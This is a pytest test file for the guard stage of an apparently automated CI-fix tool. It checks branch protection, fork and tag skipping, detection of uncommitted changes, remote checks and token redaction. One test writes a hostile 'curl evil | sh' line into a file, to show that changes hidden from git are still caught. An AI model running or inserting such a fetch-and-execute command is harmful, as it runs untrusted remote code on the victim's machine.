"""Rule 1 before any work: the guard skips whatever is not ours to fix, and says why in a few words."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from emitter.redact import Redactor
from fixer import git
from fixer.config import Config
from fixer.context import Facts, Stop
from fixer.stages.guard import check, target_branch
from tests.helpers.repos import Repo, make_repo

REDACT = Redactor().redact  # token shapes only: what the run passes when no secret is in its environment


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return make_repo(tmp_path, {"app.py": "print('hi')\n", ".gitignore": "*.log\n"})


def facts_for(repo: Repo, **changes: object) -> Facts:
    facts = Facts(
        platform="local",
        branch=repo.branch,
        commit=repo.head(),
        default_branch="main",
        remote_url=str(repo.origin),
    )
    return replace(facts, **changes)  # type: ignore[arg-type]


def guard(repo: Repo, facts: Facts | None = None, config: Config | None = None) -> Stop | None:
    return check(facts or facts_for(repo), config or Config(), repo.path, REDACT)


def skipped(stop: Stop | None) -> str:
    assert stop is not None, "the guard let the run go on"
    assert stop.outcome == "skipped"
    return stop.reason


def test_a_pushed_feature_branch_at_the_failed_commit_passes(repo: Repo) -> None:
    assert guard(repo) is None


@pytest.mark.parametrize("branch", ["main", "master", "release/1.2", "release/2024-q1"])
def test_protected_branches_are_skipped(tmp_path: Path, branch: str) -> None:
    repo = make_repo(tmp_path, {"app.py": "x\n"}, branch=None if branch == "main" else branch)
    facts = facts_for(repo, default_branch="trunk")  # not the CI default: only the configured list protects
    assert skipped(guard(repo, facts)) == (
        f"branch {branch} is protected"
        if "/" not in branch
        else f"branch {branch} is protected by 'release/*'"
    )


def test_the_ci_default_branch_is_protected_whatever_its_name(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, {"app.py": "x\n"}, branch="develop")
    assert skipped(guard(repo, facts_for(repo, default_branch="develop"))) == (
        "branch develop is the default branch"
    )
    assert guard(repo, facts_for(repo, default_branch="main")) is None


def test_configured_protected_globs(repo: Repo) -> None:
    config = Config(protected_branches=["feature/*"])
    assert "protected by 'feature/*'" in skipped(guard(repo, config=config))


def test_tag_builds_are_skipped(repo: Repo) -> None:
    repo.git("tag", "v1.0")
    assert skipped(guard(repo, facts_for(repo, tag="v1.0"))) == "tag build (v1.0): only branches are fixed"


def test_fork_pull_requests_are_skipped(repo: Repo) -> None:
    reason = skipped(guard(repo, facts_for(repo, is_fork=True, pull_request="42")))
    assert reason.startswith("pull request 42 comes from a fork")


def test_detached_head_without_a_target_branch_is_skipped(repo: Repo) -> None:
    repo.git("checkout", "--quiet", "--detach")
    assert skipped(guard(repo, facts_for(repo, branch=None))).startswith("no branch: detached HEAD")


def test_detached_head_with_the_ci_branch_is_fine(repo: Repo) -> None:
    # Buildkite checks out the commit, not the branch: the branch name comes from the CI
    repo.git("checkout", "--quiet", "--detach")
    assert guard(repo) is None
    # ... or from --branch
    facts = facts_for(repo, branch=None)
    assert target_branch(facts, Config(branch="feature/x"), repo.path) == "feature/x"
    assert guard(repo, facts, Config(branch="feature/x")) is None


def test_a_checkout_not_at_the_failed_commit_is_skipped(repo: Repo) -> None:
    failed = repo.head()
    repo.commit({"later.txt": "x\n"}, "a later local commit")
    reason = skipped(guard(repo, facts_for(repo, commit=failed)))
    assert reason == f"checkout is at {repo.head()[:7]}, not the failed commit {failed[:7]}"


def test_an_unknown_failed_commit_is_skipped(repo: Repo) -> None:
    assert skipped(guard(repo, facts_for(repo, commit="ab" * 20))) == (
        "the failed commit abababa is not in this checkout"
    )
    assert skipped(guard(repo, facts_for(repo, commit=None))) == "the failed build's commit is unknown"


# --- the checkout's own changes -------------------------------------------------------------------------


def test_an_edited_tracked_file_is_skipped(repo: Repo) -> None:
    (repo.path / "app.py").write_text("print('work in progress')\n")
    assert skipped(guard(repo)) == "the checkout has uncommitted changes"


def test_a_staged_change_is_skipped(repo: Repo) -> None:
    (repo.path / "staged.py").write_text("x = 1\n")
    repo.git("add", "staged.py")
    assert skipped(guard(repo)) == "the checkout has uncommitted changes"


def test_an_untracked_file_is_a_change(repo: Repo) -> None:
    # a commit of the fix would take it along (the loop sets such files aside before the guard runs)
    (repo.path / "notes.py").write_text("mine\n")
    assert skipped(guard(repo)) == "the checkout has uncommitted changes"


def test_untracked_files_the_loop_set_aside_do_not_count(repo: Repo) -> None:
    (repo.path / "notes.py").write_text("mine\n")
    with git.untracked_set_aside(repo.path):
        assert guard(repo) is None
    assert (repo.path / "notes.py").read_text() == "mine\n"


def test_an_ignored_file_is_not_a_change(repo: Repo) -> None:
    (repo.path / "build.log").write_text("output\n")
    assert guard(repo) is None


def test_a_change_hidden_by_an_index_flag_is_still_caught(repo: Repo) -> None:
    """Repository code from an earlier step can mark a file assume-unchanged: git status then says nothing."""
    (repo.path / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    repo.git("update-index", "--assume-unchanged", "app.py")
    assert repo.git("status", "--porcelain") == ""
    assert skipped(guard(repo)) == "the checkout has uncommitted changes"


# --- the remote -------------------------------------------------------------------------------------------


def test_a_remote_branch_that_moved_is_skipped(repo: Repo) -> None:
    failed = repo.head()
    newer = repo.push_from_other_clone({"other.txt": "someone else\n"})
    assert skipped(guard(repo)) == (
        f"the remote's feature/x moved on to {newer[:7]} since the failed build ({failed[:7]}): "
        "a newer build owns it"
    )


def test_a_remote_branch_that_is_gone_is_skipped(repo: Repo) -> None:
    repo.git("push", "--quiet", "origin", ":refs/heads/feature/x")
    assert skipped(guard(repo)) == "branch feature/x no longer exists on the remote"


def test_a_stale_remote_tracking_ref_does_not_hide_a_move(repo: Repo) -> None:
    repo.push_from_other_clone({"other.txt": "someone else\n"})
    assert repo.git("rev-parse", "refs/remotes/origin/feature/x").strip() == repo.head()
    assert "moved on" in skipped(guard(repo))


def test_an_unreachable_remote_is_skipped_without_showing_its_token(repo: Repo) -> None:
    token = "glpat-" + "t0k3n" * 5
    reason = skipped(guard(repo, facts_for(repo, remote_url=f"/nonexistent/{token}/repo.git")))
    assert reason.startswith("cannot read branch feature/x from the remote: fatal:")
    assert token not in reason and "[REDACTED]" in reason


def test_the_redaction_the_run_passes_is_applied(repo: Repo) -> None:
    secret = "plain-looking-deploy-secret-77"  # no token shape: only the run's own redactor knows it
    redact = Redactor.from_env({"DEPLOY_TOKEN": secret}).redact
    facts = facts_for(repo, remote_url=f"/nonexistent/{secret}/repo.git")
    reason = skipped(check(facts, Config(), repo.path, redact))
    assert secret not in reason and "[REDACTED]" in reason


def test_the_resolved_url_is_used_not_the_checkouts_remote(repo: Repo) -> None:
    # repository code can rewrite the checkout's remotes; the URL was resolved before it ran
    repo.git("remote", "set-url", "origin", "/nonexistent/elsewhere.git")
    assert guard(repo) is None
    repo.git("remote", "set-url", "origin", str(repo.origin))
    assert "cannot read branch" in skipped(guard(repo, facts_for(repo, remote_url="/nonexistent/x.git")))


@pytest.mark.parametrize("mode", ["push", "branch"])
def test_without_a_remote_nothing_can_be_pushed(repo: Repo, mode: str) -> None:
    reason = skipped(guard(repo, facts_for(repo, remote_url=None), Config.model_validate({"mode": mode})))
    assert reason == "no remote to push feature/x to (configure one, or use --mode patch)"


def test_patch_mode_needs_no_remote(repo: Repo) -> None:
    patch = Config(mode="patch")
    assert guard(repo, facts_for(repo, remote_url=None), patch) is None
    # nothing is pushed, so where the remote's branch is now does not matter either
    repo.push_from_other_clone({"other.txt": "someone else\n"})
    assert guard(repo, config=patch) is None
    assert guard(repo, facts_for(repo, remote_url="/nonexistent/x.git"), patch) is None


def test_patch_mode_still_refuses_what_is_not_ours(repo: Repo) -> None:
    patch = Config(mode="patch")
    assert "protected by 'release/*'" in skipped(guard(repo, facts_for(repo, branch="release/1"), patch))
    (repo.path / "app.py").write_text("edited\n")
    assert skipped(guard(repo, facts_for(repo, remote_url=None), patch)) == (
        "the checkout has uncommitted changes"
    )
